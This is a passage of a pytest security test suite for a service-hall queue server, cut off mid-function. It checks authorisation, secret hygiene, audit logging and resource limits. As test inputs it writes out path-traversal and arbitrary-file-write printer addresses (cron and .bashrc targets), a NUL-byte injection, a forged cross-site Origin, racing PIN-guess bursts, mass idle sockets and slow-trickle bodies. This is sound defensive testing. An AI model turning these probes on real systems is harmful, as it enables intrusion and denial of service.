"""Security over the hall server, walked from its own OpenAPI description.

* Every operation in the description is classified here (a new route that is not fails the
  test). With a clerk's session every manager/admin operation is refused with 403 and
  changes nothing; without a token (or with a wrong one) everything but ``/health`` is 401.
* A revoked station is refused on the event stream, and a stream it had open is closed.
* PINs, station tokens and session tokens never reach the access log, the event log, the
  database file or an export of the events.
* Each manager/admin action done through the server is in the audit trail with who did it
  (staff number) and where (station name).
* Strangers on the hall's Wi-Fi: idle sockets, a burst of live streams, odd forms, slow
  bodies, ratings from elsewhere or another day, board-token guesses and staff-number
  probing get no more than their share; admins cannot point a station's printer at a file
  of their choosing; exports for Excel and the analysts' copy carry no formula, no secret.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import resource
import socket
import sqlite3
import subprocess
import sys
import threading
import time
import uuid
import warnings
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from console.local import LocalHall
from console.server.auth import STATION_LOGIN_FAILURES, revoke_station
from tests.server.conftest import ADMIN, PIN, Server, build_hall, free_port, register
from tests.waiting import scaled, wait_until

MANAGER_PIN = "918273"
"""A PIN distinctive enough to grep for; the clerks have the shared test PIN."""
WRONG_PIN = "564738"

PUBLIC = {("get", "/health")}
CITY = {("get", f"/api/v1/city/{what}") for what in ("snapshot", "catalogue", "days", "stream")}
"""The city's reads: a city token's only (``tests/server/test_city_hall.py``)."""
READS = {
    ("get", p)
    for p in (
        "/api/v1/whoami", "/api/v1/settings", "/api/v1/services", "/api/v1/counters",
        "/api/v1/clerks", "/api/v1/sessions", "/api/v1/printers", "/api/v1/tickets",
        "/api/v1/print-jobs", "/api/v1/ticket", "/api/v1/counters/{number}/view",
        "/api/v1/hall", "/api/v1/floor", "/api/v1/events/last", "/api/v1/events",
        "/api/v1/events/wait", "/api/v1/stream", "/api/v1/departments", "/api/v1/matters",
        "/api/v1/matters/{code}",
    )
}  # fmt: skip
CLERK_WRITES = {
    ("post", p)
    for p in (
        "/api/v1/login", "/api/v1/logout", "/api/v1/counters/{number}/open",
        "/api/v1/counters/{number}/pause", "/api/v1/counters/{number}/resume",
        "/api/v1/counters/{number}/close", "/api/v1/tickets", "/api/v1/appointments/check-in",
        "/api/v1/counters/{number}/call-next", "/api/v1/counters/{number}/call",
        "/api/v1/counters/{number}/recall", "/api/v1/counters/{number}/serve",
        "/api/v1/counters/{number}/finish", "/api/v1/counters/{number}/no-show",
        "/api/v1/counters/{number}/park", "/api/v1/counters/{number}/resume-ticket",
        "/api/v1/tickets/transfer", "/api/v1/tickets/cancel", "/api/v1/tickets/green",
        "/api/v1/print-jobs", "/api/v1/print-jobs/claim", "/api/v1/print-jobs/{job_id}/result",
        "/api/v1/print-jobs/{job_id}/lease", "/api/v1/tickets/matter",
    )
}  # fmt: skip
"""Clerks may do these (on their own counter and tickets; the engine checks the rest)."""
KIOSK = {
    ("get", "/api/v1/kiosk/home"),
    ("get", "/api/v1/kiosk/search"),
    ("post", "/api/v1/kiosk/tickets"),
    ("get", "/api/v1/kiosk/print-jobs/{job_id}"),
}
"""A kiosk station's own routes (tests/server/test_kiosk.py walks its token over the rest)."""
PRIVILEGED: dict[tuple[str, str], dict | None] = {
    ("put", "/api/v1/settings/{name}"): {"value": 5},
    ("post", "/api/v1/services"): {"code": "NEW", "name_zh": "新", "name_en": "New",
                                   "prefix": "N"},
    ("patch", "/api/v1/services/{code}"): {"name_en": "Renamed"},
    ("delete", "/api/v1/services/{code}"): None,
    ("post", "/api/v1/counters"): {"number": 77, "services": ["ID"]},
    ("patch", "/api/v1/counters/{number}"): {"name": "renamed"},
    ("delete", "/api/v1/counters/{number}"): None,
    ("post", "/api/v1/clerks"): {"staff_no": "6666", "name": "intruder", "role": "admin",
                                 "pin": "4321"},
    ("patch", "/api/v1/clerks/{staff_no}"): {"role": "admin"},
    ("delete", "/api/v1/clerks/{staff_no}"): None,
    ("post", "/api/v1/sessions"): {"name": "night", "opens": "18:00", "closes": "21:00"},
    ("patch", "/api/v1/sessions/{name}"): {"closes": "23:00"},
    ("delete", "/api/v1/sessions/{name}"): None,
    ("post", "/api/v1/printers"): {"name": "p2", "connection": "file", "address": "/tmp/x"},
    ("delete", "/api/v1/printers/{name}"): None,
    ("post", "/api/v1/appointments/import"): {"rows": [{"code": "YY1", "service": "ID"}]},
    ("post", "/api/v1/close-day"): None,
    ("post", "/api/v1/matters"): {"code": "NEW-1", "name_zh": "新事项", "department": "D",
                                  "service": "ID"},
    ("patch", "/api/v1/matters/{code}"): {"name_en": "Renamed"},
    ("delete", "/api/v1/matters/{code}"): None,
    ("post", "/api/v1/catalogue/import"): {"rows": [{"code": "NEW-2", "name_zh": "新",
                                                      "department": "D", "service": "ID"}]},
}  # fmt: skip
"""Manager/admin operations, each with a valid body (so a refusal is the role, not the body)."""
PATH_VALUES = {"name": "day", "code": "ID", "number": "1", "staff_no": "1001", "job_id": "1"}


def fill(path: str) -> str:
    for name, value in PATH_VALUES.items():
        path = path.replace("{" + name + "}", value)
    return path


@pytest.fixture(scope="module")
def srv(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    db = tmp_path_factory.mktemp("sec") / "hall.db"
    build_hall(db, clerks=2, counters=2)
    hall = LocalHall(db)
    hall.add_clerk(ADMIN, staff_no="9002", name="floor boss", role="manager", pin=MANAGER_PIN)
    hall.add_session(ADMIN, name="day", opens="00:00", closes="23:59", weekdays="1234567")
    hall.add_printer(ADMIN, name="p1", connection="file", address="/dev/null")
    hall.close()
    server = Server(db, free_port())
    for name, admin in (("admin-pc", True), ("desk-1", False), ("floor-1", False),
                        ("gone", False)):  # fmt: skip
        server.tokens[name] = register(db, name, admin)
    server.start()
    yield server
    server.stop()


def client(srv: Server, station: str | None, session: str | None = None) -> httpx.Client:
    headers = {}
    if station is not None:
        headers["Authorization"] = f"Bearer {srv.tokens.get(station, station)}"
    if session is not None:
        headers["X-QConsole-Session"] = session
    return httpx.Client(base_url=srv.url, headers=headers, timeout=scaled(10))


def login(srv: Server, station: str, staff_no: str, pin: str) -> str:
    with client(srv, station) as http:
        r = http.post("/api/v1/login", json={"staff_no": staff_no, "pin": pin})
        assert r.status_code == 200, r.text
        return r.json()["session"]


def event_count(db: Path) -> int:
    conn = sqlite3.connect(db, timeout=10)
    try:
        return conn.execute("SELECT count(*) FROM events").fetchone()[0]
    finally:
        conn.close()


def operations(srv: Server) -> set[tuple[str, str]]:
    with client(srv, "desk-1") as http:
        r = http.get("/openapi.json")
    assert r.status_code == 200
    return {(m, p) for p, ops in r.json()["paths"].items() for m in ops}


def test_every_operation_is_classified(srv: Server) -> None:
    ops = operations(srv)
    known = PUBLIC | READS | CLERK_WRITES | set(PRIVILEGED) | KIOSK | CITY
    assert ops - known == set(), "classify the new operations in this test"
    assert known - ops == set()


def test_a_clerk_is_refused_every_manager_and_admin_operation(srv: Server) -> None:
    session = login(srv, "desk-1", "1001", PIN)
    assert operations(srv) >= set(PRIVILEGED)
    with client(srv, "desk-1", session) as http:
        for (method, path), body in PRIVILEGED.items():
            before = event_count(srv.db)
            r = http.request(method.upper(), fill(path), json=body,
                             headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
            assert r.status_code == 403, (method, path, r.status_code, r.text)
            assert r.json()["error"] == "forbidden" and "role" in r.json()["message"]
            assert event_count(srv.db) == before, (method, path)
        # and the clerk's own work is allowed (the refusals are about the role)
        r = http.post("/api/v1/tickets", json={"service": "ID"},
                      headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
        assert r.status_code == 200, r.text


def test_without_a_token_everything_but_health_is_401(srv: Server) -> None:
    before = event_count(srv.db)
    for station in (None, "not-a-token", srv.tokens["desk-1"][:-2] + "xx"):
        with client(srv, station) as http:
            assert http.get("/openapi.json").status_code == 401
            for method, path in sorted(operations_from_app()):
                body = PRIVILEGED.get((method, path)) or {}
                r = http.request(method.upper(), fill(path), json=body,
                                 headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
                expected = 200 if (method, path) in PUBLIC else 401
                assert r.status_code == expected, (station, method, path, r.text)
    assert event_count(srv.db) == before


def operations_from_app() -> set[tuple[str, str]]:
    """The same description, built from the app (the anonymous client cannot fetch it)."""
    from console.server.app import create_app

    spec = create_app("/nonexistent").openapi()
    return {(m, p) for p, ops in spec["paths"].items() for m in ops}


def test_a_revoked_station_loses_the_stream(srv: Server) -> None:
    token = srv.tokens["gone"]
    headers = {"Authorization": f"Bearer {token}"}
    lines: list[str] = []
    opened = threading.Event()

    def follow() -> None:
        try:
            with httpx.stream("GET", srv.url + "/api/v1/stream", headers=headers,
                              timeout=15) as sse:  # fmt: skip
                assert sse.status_code == 200
                for line in sse.iter_lines():
                    lines.append(line)
                    opened.set()
        except httpx.HTTPError as exc:
            lines.append(f"! {type(exc).__name__}")

    reader = threading.Thread(target=follow)
    reader.start()
    assert opened.wait(10)
    hall = LocalHall(srv.db)
    try:
        revoke_station(hall.engine, ADMIN, "gone")
    finally:
        hall.close()
    t0 = time.monotonic()
    reader.join(12)
    assert not reader.is_alive(), "the revoked station's open stream was not closed"
    assert time.monotonic() - t0 < 8
    assert not any('"station.revoked"' in line for line in lines)  # cut before it went out
    r = httpx.get(srv.url + "/api/v1/stream", headers=headers, timeout=5)
    assert r.status_code == 401 and "revoked" in r.json()["message"]
    assert httpx.get(srv.url + "/api/v1/hall", headers=headers, timeout=5).status_code == 401


def test_secrets_stay_out_of_logs_events_database_and_exports(srv: Server, tmp_path: Path) -> None:
    with client(srv, "floor-1") as http:
        r = http.post("/api/v1/login", json={"staff_no": "9002", "pin": WRONG_PIN})
        assert r.status_code == 403
    session = login(srv, "floor-1", "9002", MANAGER_PIN)
    with client(srv, "floor-1", session) as http:
        for _ in range(3):
            r = http.post("/api/v1/tickets", json={"service": "PP"},
                          headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
            assert r.status_code == 200
        assert http.get("/api/v1/hall").status_code == 200
        assert http.post("/api/v1/logout").status_code == 200
    with client(srv, "admin-pc") as http:
        r = http.patch("/api/v1/clerks/1002", json={"pin": "76543210"},
                       headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
        assert r.status_code == 200, r.text
    secrets = [MANAGER_PIN, WRONG_PIN, "76543210", session, *srv.tokens.values()]

    out = tmp_path / "events.jsonl"
    subprocess.run(
        [sys.executable, "-c", "from console.cli.main import run; run()", "export", "--db",
         str(srv.db), "--what", "events", "--from", "2000-01-01", "--to", "2100-01-01",
         "--format", "jsonl", "--personal", "--quiet", "--out", str(out)],
        check=True, cwd=Path(__file__).resolve().parents[2], capture_output=True,
    )  # fmt: skip
    conn = sqlite3.connect(srv.db)
    log_rows = [json.dumps(list(r), ensure_ascii=False) for r in conn.execute(
        "SELECT * FROM events")] + [json.dumps(list(r), ensure_ascii=False)
                                    for r in conn.execute("SELECT * FROM commands")]  # fmt: skip
    conn.close()
    places = {
        "access log": srv.log.read_text(encoding="utf-8", errors="replace"),
        "event log": "\n".join(log_rows),
        "events export": out.read_text(encoding="utf-8"),
        "database files": b"".join(
            p.read_bytes() for p in srv.db.parent.glob(srv.db.name + "*")
        ).decode("latin-1"),
    }
    assert '"path": "/api/v1/login"' in places["access log"]  # the log is there, and on
    assert places["events export"].count("\n") > 5
    for where, text in places.items():
        for secret in secrets:
            if where == "database files" and len(secret) < 8:
                continue  # a short PIN may occur by chance in binary pages
            assert secret not in text, f"a secret ({secret[:4]}…) is in the {where}"


def test_the_audit_trail_names_who_and_where_for_privileged_actions(srv: Server) -> None:
    session = login(srv, "floor-1", "9002", MANAGER_PIN)
    with client(srv, "floor-1", session) as http:
        r = http.post("/api/v1/tickets", json={"service": "ID"},
                      headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
        r = http.post("/api/v1/close-day", headers={"Idempotency-Key": uuid.uuid4().hex})
        assert r.status_code == 200 and r.json()["count"] >= 1, r.text
    with client(srv, "admin-pc") as http:
        r = http.post("/api/v1/services", json={"code": "TAX", "name_zh": "税务",
                      "name_en": "Tax", "prefix": "T"},
                      headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
        assert r.status_code == 200, r.text
        r = http.put("/api/v1/settings/green_streak_limit", json={"value": 4},
                     headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
        assert r.status_code == 200, r.text
    conn = sqlite3.connect(srv.db)
    rows = conn.execute("SELECT kind, actor, station FROM events ORDER BY id DESC LIMIT 20")
    recent = [tuple(r) for r in rows]
    conn.close()
    kinds = {kind: (actor, station) for kind, actor, station in reversed(recent)}
    assert kinds["expired"] == ("9002", "floor-1")  # close-day ends open tickets, by whom
    service = next(k for k in kinds if k.startswith("service"))
    assert kinds[service] == ("station:admin-pc", "admin-pc")
    setting = next(k for k in kinds if k.startswith("setting"))
    assert kinds[setting] == ("station:admin-pc", "admin-pc")


# -- the hardening of the server: bodies, PIN limits, plain HTTP, sessions, file printers --
def raw_request(srv: Server, head: str, body: bytes = b"") -> bytes:
    """Send a request head (and perhaps part of a body) on a raw socket; the first answer."""
    with socket.create_connection(("127.0.0.1", srv.port), timeout=10) as sock:
        sock.sendall(head.replace("\n", "\r\n").encode() + b"\r\n" + body)
        return sock.recv(65536)


def test_the_token_is_checked_before_a_body_is_read(srv: Server) -> None:
    """A 100 MB upload announced without a token is answered 401 before any of it is sent."""
    head = ("POST /api/v1/appointments/import HTTP/1.1\nHost: x\n"
            "Content-Type: application/json\nContent-Length: 100000000\n")  # fmt: skip
    answer = raw_request(srv, head)
    assert answer.startswith(b"HTTP/1.1 401"), answer[:200]
    nested = b"[" * 100_000
    with client(srv, None) as http:
        r = http.post("/api/v1/appointments/import", content=nested,
                      headers={"Content-Type": "application/json"})  # fmt: skip
        assert r.status_code == 401 and r.json()["error"] == "unauthenticated"


def test_bodies_are_capped_per_operation_with_413(srv: Server) -> None:
    key = {"Idempotency-Key": uuid.uuid4().hex}
    head = (f"POST /api/v1/appointments/import HTTP/1.1\nHost: x\n"
            f"Authorization: Bearer {srv.tokens['admin-pc']}\n"
            "Content-Type: application/json\nContent-Length: 100000000\n")  # fmt: skip
    assert raw_request(srv, head).startswith(b"HTTP/1.1 413")
    with client(srv, "admin-pc") as http:
        big = json.dumps({"service": "ID", "green_note": "x" * 100_000})
        r = http.post("/api/v1/tickets", content=big, headers=key)
        assert r.status_code == 413 and r.json()["error"] == "bad_input", r.text

        def chunked() -> Iterator[bytes]:  # no Content-Length: the cap holds while reading
            yield b'{"service": "ID", "green_note": "'
            for _ in range(20):
                yield b"y" * 8192
            yield b'"}'

        r = http.post("/api/v1/tickets", content=chunked(), headers=key)
        assert r.status_code == 413, r.text
        # an appointments import of a couple of MB is fine
        rows = [{"code": f"BIG{i:05d}", "service": "ID", "date": "2026-11-26",
                 "name": "名" * 40} for i in range(8000)]  # fmt: skip
        r = http.post("/api/v1/appointments/import", json={"rows": rows},
                      headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
        assert r.status_code == 200 and r.json()["imported"] == 8000, r.text[:300]


def logins_at_once(srv: Server, attempts: list[tuple[str, str, str]]) -> list[httpx.Response]:
    """Every (station, staff number, PIN) login sent at the same moment."""
    start = threading.Barrier(len(attempts))
    answers: list[httpx.Response | None] = [None] * len(attempts)

    def one(i: int, station: str, staff_no: str, pin: str) -> None:
        with client(srv, station) as http:
            start.wait()
            answers[i] = http.post("/api/v1/login", json={"staff_no": staff_no, "pin": pin})

    threads = [threading.Thread(target=one, args=(i, *a)) for i, a in enumerate(attempts)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(scaled(60))
    assert all(a is not None for a in answers)
    return answers  # type: ignore[return-value]


def test_a_station_gets_ten_pin_checks_even_racing_and_across_a_restart(srv: Server) -> None:
    srv.tokens["guesser"] = register(srv.db, "guesser")
    answers = logins_at_once(srv, [("guesser", f"55{i:02d}", WRONG_PIN) for i in range(30)])
    assert all(a.status_code == 403 for a in answers)
    limited = [a for a in answers if "too many wrong PINs from station" in a.json()["message"]]
    assert len(limited) == 30 - STATION_LOGIN_FAILURES
    srv.stop()
    srv.start()
    with client(srv, "guesser") as http:  # even the right PIN: the station waits out the window
        r = http.post("/api/v1/login", json={"staff_no": "1001", "pin": PIN})
        assert r.status_code == 403 and "too many wrong PINs" in r.json()["message"]


def test_simultaneous_right_pins_from_one_station_all_log_in(srv: Server) -> None:
    """Counting attempts before checking must not refuse a busy station's real logins."""
    srv.tokens["busy"] = register(srv.db, "busy")
    answers = logins_at_once(srv, [("busy", "1001", PIN)] * 16)
    assert [a.status_code for a in answers] == [200] * 16, [a.text for a in answers]


def test_a_clerk_gets_exactly_five_pin_checks_under_forty_racing_logins(srv: Server) -> None:
    hall = LocalHall(srv.db)
    try:
        hall.add_clerk(ADMIN, staff_no="7001", name="target", pin=PIN)
    finally:
        hall.close()
    stations = [f"race-{i}" for i in range(5)]
    for name in stations:
        srv.tokens[name] = register(srv.db, name)
    answers = logins_at_once(srv, [(stations[i % 5], "7001", WRONG_PIN) for i in range(40)])
    checked = [a for a in answers if a.json()["message"].startswith(("unknown staff number",
                                                                      "wrong PIN"))]  # fmt: skip
    assert len(checked) == 5, [a.json()["message"] for a in answers]
    with client(srv, stations[0]) as http:  # locked now: the right PIN is refused too
        r = http.post("/api/v1/login", json={"staff_no": "7001", "pin": PIN})
        assert r.status_code == 403 and "locked" in r.json()["message"]


def test_serve_listens_on_loopback_and_refuses_plain_http_beyond_it(
    srv: Server, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from typer.testing import CliRunner

    from console.cli import serve as serve_cli
    from console.cli.main import app

    started: list[tuple[str, dict]] = []
    monkeypatch.setattr(serve_cli, "run_server",
                        lambda db, host, port, **kw: started.append((host, kw)))  # fmt: skip
    runner = CliRunner()
    result = runner.invoke(app, ["serve", "--db", str(srv.db), "--port", "18401"])
    assert result.exit_code == 0, result.output
    assert started[-1][0] == "127.0.0.1" and started[-1][1]["warnings"] == ()
    result = runner.invoke(app, ["serve", "--db", str(srv.db), "--host", "0.0.0.0"])
    assert result.exit_code == 2 and "--insecure-http" in result.output
    assert len(started) == 1  # refused before listening
    result = runner.invoke(app, ["serve", "--db", str(srv.db), "--host", "0.0.0.0",
                                 "--insecure-http"])  # fmt: skip
    assert result.exit_code == 0
    warnings = started[-1][1]["warnings"]
    assert warnings and "unencrypted" in warnings[0] and "WARNING" in result.output


def test_health_repeats_the_plain_http_warning(srv: Server) -> None:
    from fastapi.testclient import TestClient

    from console.server.app import create_app

    app = create_app(srv.db, warnings=("plain HTTP on 0.0.0.0: tokens cross unencrypted",))
    with TestClient(app) as http:
        health = http.get("/health").json()
    assert health["status"] == "ok" and "plain HTTP" in health["warnings"][0]


def test_the_client_warns_once_before_sending_credentials_in_clear(
    srv: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    from console.domain.errors import Unavailable
    from console.remote import RemoteHall
    from console.station_credentials import PlainHttpWarning

    def no_network(*args: object, **kwargs: object) -> None:
        raise httpx.ConnectError("not on this test machine")

    monkeypatch.setattr(httpx.Client, "request", no_network)
    url = "http://192.0.2.10:8450"  # a LAN address (TEST-NET-1); nothing is really sent
    with pytest.warns(PlainHttpWarning, match="unencrypted"), pytest.raises(Unavailable):
        RemoteHall(url, srv.tokens["desk-1"], retry_for=0)
    with warnings_as_errors(), pytest.raises(Unavailable):
        RemoteHall(url, srv.tokens["desk-1"], retry_for=0)  # once is enough
    with warnings_as_errors(), pytest.raises(Unavailable):
        RemoteHall("http://127.0.0.1:1", srv.tokens["desk-1"], retry_for=0)  # loopback: silent


@contextlib.contextmanager
def warnings_as_errors() -> Iterator[None]:
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        yield


def test_a_new_pin_or_a_deactivation_ends_the_clerks_sessions(srv: Server) -> None:
    hall = LocalHall(srv.db)
    try:
        hall.add_clerk(ADMIN, staff_no="7002", name="moving on", pin=PIN)
    finally:
        hall.close()
    for change in ({"pin": "24681357"}, {"active": False}):
        pin = "24681357" if "active" in change else PIN
        session = login(srv, "desk-1", "7002", pin)
        with client(srv, "desk-1", session) as desk:
            assert desk.get("/api/v1/hall").status_code == 200
            with client(srv, "admin-pc") as admin:
                r = admin.patch("/api/v1/clerks/7002", json=change,
                                headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
                assert r.status_code == 200, r.text
            r = desk.post("/api/v1/tickets", json={"service": "ID"},
                          headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
            assert r.status_code == 403 and "log in again" in r.json()["message"], r.text


def test_a_remote_admin_cannot_make_the_server_write_any_file(srv: Server, tmp_path: Path) -> None:
    target = tmp_path / "planted.txt"
    sneaky = f"/dev/usb/../../{tmp_path}/planted.txt"
    with client(srv, "admin-pc") as http:
        for address in (str(target), sneaky, "/etc/cron.d/x", "/dev/usb"):
            body = {"name": "evil", "connection": "file", "address": address}
            r = http.post("/api/v1/printers", json=body,
                          headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
            assert r.status_code == 403 and "/dev/usb/lp*" in r.json()["message"], r.text
        body = {"name": "usb-lp", "connection": "file", "address": "/dev/usb/lp0"}
        r = http.post("/api/v1/printers", json=body,
                      headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
        assert r.status_code == 200, r.text
        # a station's own printer is confined alike: no station appends slips to ~/.bashrc
        for address in (str(target), os.path.expanduser("~/.bashrc"), sneaky):
            r = http.post("/api/v1/printers", json={"name": "desk-file", "connection": "file",
                          "address": address, "station": "desk-1"},
                          headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
            assert r.status_code == 403 and "/dev/usb/lp*" in r.json()["message"], r.text
        r = http.post("/api/v1/printers", json={"name": "desk-lp", "connection": "file",
                      "address": "/dev/usb/lp1", "station": "desk-1"},
                      headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
        assert r.status_code == 200, r.text
        # a NUL byte in an address is bad input, said plainly, for either kind of printer
        for station in (None, "desk-1"):
            body = {"name": "nul", "connection": "file", "address": "/dev/usb/lp0\x00/etc/x",
                    "station": station}  # fmt: skip
            r = http.post("/api/v1/printers", json=body,
                          headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
            assert r.status_code == 422 and "printer address" in r.json()["message"], r.text
        for name in ("usb-lp", "desk-lp"):
            http.delete(f"/api/v1/printers/{name}", headers={"Idempotency-Key": uuid.uuid4().hex})
    assert not target.exists()


# -- strangers on the hall's Wi-Fi -----------------------------------------------------------
IDLE_SOCKETS = 2000
STREAMS = 20
"""The tight server's cap on the citizens' live streams."""


def key() -> dict[str, str]:
    return {"Idempotency-Key": uuid.uuid4().hex}


def test_two_thousand_idle_sockets_lock_out_neither_health_nor_a_station(tmp_path: Path) -> None:
    """Sockets opened and never used, all from the stations' own address (loopback), give
    way to the clients that speak: /health and a station's call answer within 2 s."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < IDLE_SOCKETS + 500:
        resource.setrlimit(resource.RLIMIT_NOFILE, (IDLE_SOCKETS + 500, hard))
    db = tmp_path / "hall.db"
    build_hall(db, clerks=1, counters=1)
    srv = Server(db, free_port())
    srv.tokens["admin-pc"] = register(db, "admin-pc", True)
    srv.start()
    idle: list[socket.socket] = []
    try:
        for _ in range(IDLE_SOCKETS):
            idle.append(socket.create_connection(("127.0.0.1", srv.port), timeout=10))
        quick = httpx.Timeout(scaled(2.0))
        assert httpx.get(srv.url + "/health", timeout=quick).status_code == 200
        bearer = {"Authorization": f"Bearer {srv.tokens['admin-pc']}"}
        with httpx.Client(base_url=srv.url, timeout=quick, headers=bearer) as pc:
            assert pc.get("/api/v1/hall").status_code == 200
            issued = pc.post("/api/v1/tickets", json={"service": "ID"}, headers=key())
            assert issued.status_code == 200, issued.text
    finally:
        for s in idle:
            s.close()
        srv.stop()


@pytest.fixture(scope="module")
def tight(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A server with small limits: ``STREAMS`` live streams, 2 s for a request to arrive;
    no request allowance in the way (the bursts below all come from one address)."""
    db = tmp_path_factory.mktemp("tight") / "hall.db"
    build_hall(db, clerks=2, counters=2)
    srv = Server(db, free_port(), extra=["--public-streams", str(STREAMS),
                                         "--request-timeout", "2"])  # fmt: skip
    hall = LocalHall(db)
    try:
        hall.set_setting(ADMIN, "public_url", srv.url)
        hall.set_setting(ADMIN, "public_rate_per_min", 100_000)
    finally:
        hall.close()
    for name, admin in (("admin-pc", True), ("desk-1", False)):
        srv.tokens[name] = register(db, name, admin)
    srv.start()
    yield srv
    srv.stop()


def test_a_burst_of_live_streams_gets_no_more_than_the_cap(tight: Server) -> None:
    burst = 3 * STREAMS
    statuses: list[int] = []
    start = threading.Barrier(burst)
    release = threading.Event()

    def one() -> None:
        with httpx.Client(timeout=scaled(30)) as web:
            start.wait()
            with web.stream("GET", tight.url + "/board/events") as answer:
                statuses.append(answer.status_code)
                release.wait(scaled(30))  # a stream that got in stays open until every one answered

    threads = [threading.Thread(target=one) for _ in range(burst)]
    for t in threads:
        t.start()
    try:
        wait_until(lambda: len(statuses) >= burst, timeout=30, what="every stream answered")
    finally:
        release.set()
    for t in threads:
        t.join(scaled(30))
    assert sorted(statuses) == [200] * STREAMS + [503] * (burst - STREAMS)

    def a_place_again() -> bool:  # the places come back when the streams end
        with httpx.stream("GET", tight.url + "/board/events", timeout=scaled(10)) as again:
            return again.status_code == 200

    wait_until(a_place_again, what="a live stream accepted again")


def test_a_body_that_trickles_in_is_answered_408(tight: Server) -> None:
    """The deadline covers the whole body, not each piece of it."""
    api = (b'{"service": "ID", "green_note": "' + b"x" * 60 + b'"}',
           f"Authorization: Bearer {tight.tokens['admin-pc']}\r\n"
           f"Idempotency-Key: {uuid.uuid4().hex}\r\nContent-Type: application/json")  # fmt: skip
    rating = (
        b"rating=5&comment=" + b"x" * 60,
        f"Origin: {tight.url}\r\nContent-Type: application/x-www-form-urlencoded",
    )
    for path, (body, headers) in (("/api/v1/tickets", api), (f"/f/{'z' * 22}", rating)):
        head = (f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{tight.port}\r\n{headers}\r\n"
                f"Content-Length: {len(body)}\r\n\r\n").encode()  # fmt: skip
        with socket.create_connection(("127.0.0.1", tight.port), timeout=10) as sock:
            sock.sendall(head)
            sock.settimeout(0.25)
            answer, sent = b"", 0
            while sent < len(body) - 1 and not answer:  # a byte every 0.25 s, never the last
                try:
                    sock.sendall(body[sent : sent + 1])
                    sent += 1
                    answer = sock.recv(4096)
                except TimeoutError:
                    continue
                except OSError:
                    break
            sock.settimeout(5)
            with contextlib.suppress(OSError):
                while chunk := sock.recv(4096):  # to the close: the head and body may part
                    answer += chunk
        assert answer.startswith(b"HTTP/1.1 408"), (path, sent, answer[:300])
        assert b"did not arrive in time" in answer


def finished_ticket(server: Server) -> str:
    """The public code of a ticket just finished at counter 1 (through the server)."""
    from console.remote import RemoteHall
    from tests.server.conftest import public_code

    desk = RemoteHall(server.url, server.tokens["desk-1"])
    try:
        me = desk.login("1001", PIN, "desk-1")
        desk.open_counter(me, 1)
        number = desk.issue(me, "ID").ticket.number
        while desk.call_next(me, 1).number != number:
            desk.finish(me, 1)
        desk.finish(me, 1)
    finally:
        desk.close()
    return public_code(server.db, number)


SECURE = {"x-content-type-options": "nosniff", "x-frame-options": "DENY"}


def test_a_rating_comes_only_from_the_halls_own_page_with_its_two_fields(tight: Server) -> None:
    code = finished_ticket(tight)
    url = f"{tight.url}/f/{code}"
    many = {"rating": "5", "comment": "ok", "a": "1", "b": "2", "c": "3"}
    r = httpx.post(url, data=many, headers={"Origin": tight.url})
    assert r.status_code == 422, r.text  # was a 500
    assert SECURE.items() <= r.headers.items() and "content-security-policy" in r.headers
    elsewhere = ({"Origin": "http://evil.example"}, {"Origin": "null"}, {},
                 {"Sec-Fetch-Site": "cross-site", "Origin": tight.url})  # fmt: skip
    for origin in elsewhere:
        r = httpx.post(url, data={"rating": "1", "comment": "cross-site"}, headers=origin)
        assert r.status_code == 403, (origin, r.status_code)
    r = httpx.post(url, data={"rating": "4"}, headers={"Sec-Fetch-Site": "same-origin", **EN})
    assert r.status_code == 200 and "Thank you" in r.text
    assert r.headers["referrer-policy"] == "same-origin"  # so a browser's post says Origin


EN = {"Accept-Language": "en"}


def test_an_internal_error_still_carries_the_security_headers(tight: Server) -> None:
    from fastapi.testclient import TestClient

    from console.server.app import create_app

    app = create_app(tight.db)

    @app.get("/t/broken/page")
    async def broken() -> None:
        raise RuntimeError("a fault of ours")

    with TestClient(app, raise_server_exceptions=False) as http:
        r = http.get("/t/broken/page")
    assert r.status_code == 500 and r.json()["error"] == "internal"
    assert SECURE.items() <= r.headers.items() and "content-security-policy" in r.headers


def test_a_receipt_rates_only_on_its_own_day(small_hall: LocalHall, clock) -> None:
    from console.domain import Actor
    from console.domain.errors import Refused

    me = Actor(staff_no="1001", role="clerk", station="desk-1")
    small_hall.open_counter(me, 1)
    numbers = [small_hall.issue(me, "ID").ticket.number for _ in range(2)]
    for _ in numbers:
        small_hall.call_next(me, 1)
        small_hall.finish(me, 1)
    codes = [small_hall.engine.conn.execute("SELECT public_code FROM tickets WHERE number = ?",
                                            (n,)).fetchone()[0] for n in numbers]  # fmt: skip
    assert small_hall.engine.rate_by_code(codes[0], 5).rating == 5  # the same day: rated
    clock.t += 24 * 3600
    with pytest.raises(Refused) as refused:
        small_hall.engine.rate_by_code(codes[1], 1, "found the receipt in a drawer")
    assert refused.value.reason == "rating.expired"
    rating = small_hall.engine.conn.execute(
        "SELECT rating FROM tickets WHERE public_code = ?", (codes[1],)
    ).fetchone()[0]
    assert rating is None


def test_an_unknown_staff_number_costs_a_pin_check_like_a_wrong_pin(
